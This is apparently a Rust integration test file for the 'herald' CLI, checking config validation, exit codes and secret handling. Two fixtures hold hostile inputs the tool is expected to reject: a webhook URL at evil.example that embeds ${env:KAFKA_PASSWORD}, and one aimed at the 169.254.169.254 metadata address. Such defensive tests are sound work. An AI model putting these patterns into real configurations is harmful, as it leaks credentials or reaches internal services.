//! The `herald` binary's command line: exit codes and messages a user sees.

use std::process::Command;

fn herald() -> Command {
    let mut c = Command::new(env!("CARGO_BIN_EXE_herald"));
    // Nothing from the developer's environment or working directory leaks in.
    c.env_clear()
        .env("PATH", std::env::var("PATH").unwrap_or_default());
    c.current_dir(env!("CARGO_MANIFEST_DIR"));
    c
}

fn write(dir: &tempfile::TempDir, name: &str, text: &str) -> String {
    let path = dir.path().join(name);
    std::fs::write(&path, text).unwrap();
    path.display().to_string()
}

#[test]
fn apply_dry_run_accepts_the_examples() {
    let out = herald()
        .args([
            "workspace",
            "apply",
            "--dry-run",
            "--sandbox-url",
            "https://sandbox.example.com",
            "examples/academy.yaml",
            "examples/onboarding.yaml",
        ])
        .envs(herald::cli::dev::example_vars(
            "https://sandbox.example.com",
        ))
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        stdout.contains("valid ws_academyflow (5 connections, 5 rules)"),
        "{stdout}"
    );
    assert!(stdout.contains("valid ws_northstar"), "{stdout}");
}

#[test]
fn apply_rejects_invalid_config_with_field_paths_and_exit_code_1() {
    let dir = tempfile::tempdir().unwrap();
    let file = write(
        &dir,
        "bad.yaml",
        r#"
workspace: "ws bad"
connections:
  - { id: hook, type: webhook, url: "http://169.254.169.254/latest", credentials: { secret: "nope" } }
  - { id: crm, type: hubspott }
rules:
  - { id: r1, event: e, connection: hook, action: post, when: "payload.x >" }
  - { id: r2, event: e, connection: missing, action: post }
"#,
    );
    let out = herald()
        .args(["workspace", "apply", "--dry-run", &file])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let stderr = String::from_utf8_lossy(&out.stderr);
    for expected in [
        "bad.yaml: workspace: `ws bad`",
        "connections[0].url: 169.254.169.254 is not a public address",
        "connections[1].type: `hubspott` is not a destination type (known: webhook, slack, hubspot, mailchimp, activecampaign, intercom)",
        "rules[0].when: syntax error",
        "rules[1].connection: `missing` is not a connection",
    ] {
        assert!(
            stderr.contains(expected),
            "missing {expected:?} in:\n{stderr}"
        );
    }
}

#[test]
fn apply_names_unset_secret_variables_and_unknown_fields() {
    let dir = tempfile::tempdir().unwrap();
    let file = write(
        &dir,
        "ws.yaml",
        "workspace: ws\nconnections:\n  - { id: s, type: slack, credentials: { token: \"${env:HERALD_CRED_TEST_UNSET_TOKEN}\" }, chanel: x }\n",
    );
    let out = herald()
        .args(["workspace", "apply", "--dry-run", &file])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("connections[0].credentials.token: environment variable `HERALD_CRED_TEST_UNSET_TOKEN` is not set"), "{stderr}");

    let file = write(
        &dir,
        "ws2.yaml",
        "workspace: ws\nconnections:\n  - { id: s, type: slack, credentials: { token: xoxb-1 }, chanel: x }\n",
    );
    let out = herald()
        .args(["workspace", "apply", "--dry-run", &file])
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("connections[0].chanel: unknown field `chanel`"),
        "{stderr}"
    );
}

#[test]
fn apply_refuses_literal_credentials_and_references_outside_credentials() {
    let dir = tempfile::tempdir().unwrap();
    let file = write(
        &dir,
        "literal.yaml",
        "workspace: ws\nconnections:\n  - { id: s, type: slack, channel: c, credentials: { token: xoxb-canary-literal } }\n",
    );
    let out = herald()
        .args(["workspace", "apply", "--dry-run", &file])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("connections[0].credentials.token: a literal credential")
            && stderr.contains("--store-credentials"),
        "{stderr}"
    );
    assert!(!stderr.contains("canary"), "{stderr}");

    let file = write(
        &dir,
        "evil.yaml",
        "workspace: ws\nconnections:\n  - { id: h, type: webhook, url: \"https://evil.example/?k=${env:KAFKA_PASSWORD}\", credentials: { secret: \"${env:KAFKA_PASSWORD}\" } }\n",
    );
    let out = herald()
        .args(["workspace", "apply", "--dry-run", &file])
        .env("KAFKA_PASSWORD", "canary-kafka-password")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("connections[0].url: `${…}` references are allowed only in `credentials`"),
        "{stderr}"
    );
    assert!(!stderr.contains("canary"), "{stderr}");
}

#[test]
fn credentials_set_validates_fields_from_stdin_and_never_echoes_them() {
    use std::io::Write;
    let mut child = herald()
        .args([
            "credentials",
            "set",
            "--workspace",
            "ws",
            "--connection",
            "crm",
            "--type",
            "hubspot",
            "--brokers",
            "127.0.0.1:1",
        ])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(br#"{"tokn": "pat-canary-cli"}"#)
        .unwrap();
    let out = child.wait_with_output().unwrap();
    assert_eq!(out.status.code(), Some(1));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("credentials.tokn"), "{stderr}");
    let all = format!("{stderr}{}", String::from_utf8_lossy(&out.stdout));
    assert!(!all.contains("canary"), "{all}");

    let out = herald()
        .args([
            "credentials",
            "set",
            "--workspace",
            "ws",
            "--connection",
            "crm",
            "pat-x",
        ])
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(2),
        "values are never taken from argv"
    );
}

#[test]
fn bad_usage_exits_2_and_bad_configuration_names_the_key() {
    let out = herald()
        .args(["emit", "--workspace", "w", "--bogus"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));

    let out = herald()
        .args(["topics", "create"])
        .env("HERALD__PROCESSOR__MAX_IN_FLIGHT_EVENTS", "0")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("processor.max_in_flight_events"),
        "{stderr}"
    );

    let out = herald()
        .args(["topics", "create"])
        .env("HERALD__KAFKA__BROKRS", "x:1")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("brokrs"));
}

#[test]
fn emit_refuses_a_payload_that_is_not_a_json_object() {
    let out = herald()
        .args([
            "emit",
            "--brokers",
            "127.0.0.1:1",
            "--workspace",
            "w",
            "--event",
            "e",
            "[1,2]",
        ])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("PAYLOAD must be a JSON object"));
}

#[test]
fn redrive_rejects_bad_statuses_and_times_with_exit_code_2() {
    for args in [
        ["redrive", "--workspace", "w", "--status", "pending"],
        ["redrive", "--workspace", "w", "--since", "yesterday"],
    ] {
        let out = herald().args(args).output().unwrap();
        assert_eq!(out.status.code(), Some(2), "{args:?}");
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(stderr.contains(args[3]), "{stderr}");
    }
}

#[test]
fn replay_refuses_bad_windows_and_mixed_modes_with_exit_code_2() {
    // An inverted window: refused before any broker is contacted, nothing changed.
    let out = herald()
        .args([
            "replay",
            "--workspace",
            "ws_a",
            "--since",
            "2026-03-21T14:00:00Z",
        ])
        .args([
            "--until",
            "2026-03-21T13:00:00Z",
            "--brokers",
            "127.0.0.1:1",
        ])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("--until (2026-03-21 13:00:00 UTC) must be after --since")
            && stderr.contains("nothing was changed"),
        "{stderr}"
    );
    for args in [
        // The two modes cannot be mixed; each needs its time.
        vec![
            "replay",
            "--group",
            "g",
            "--to-datetime",
            "2026-03-21T14:00:00Z",
            "--workspace",
            "w",
        ],
        vec!["replay", "--workspace", "w"],
        vec!["replay", "--group", "g"],
        vec![
            "replay",
            "--workspace",
            "w",
            "--since",
            "2026-03-21T14:00",
            "--execute",
        ],
        vec!["replay", "--workspace", "w", "--since", "an hour ago"],
        vec![
            "replay",
            "--workspace",
            "w",
            "--since",
            "2026-03-21T14:00:00Z",
            "--bogus",
        ],
    ] {
        let out = herald().args(&args).output().unwrap();
        assert_eq!(out.status.code(), Some(2), "{args:?}");
        assert!(!out.stderr.is_empty(), "{args:?}");
    }
}

#[test]
fn history_with_a_url_asks_for_an_admin_token_before_calling() {
    let out = herald()
        .args([
            "history",
            "--url",
            "http://127.0.0.1:1",
            "--workspace",
            "ws_a",
        ])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("HERALD_ADMIN_TOKEN"), "{stderr}");
    let out = herald()
        .args(["history", "--url", "not a url", "--workspace", "ws_a"])
        .args(["--token", "adm_0123456789abcdefghijklmn"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("not a URL"));
}
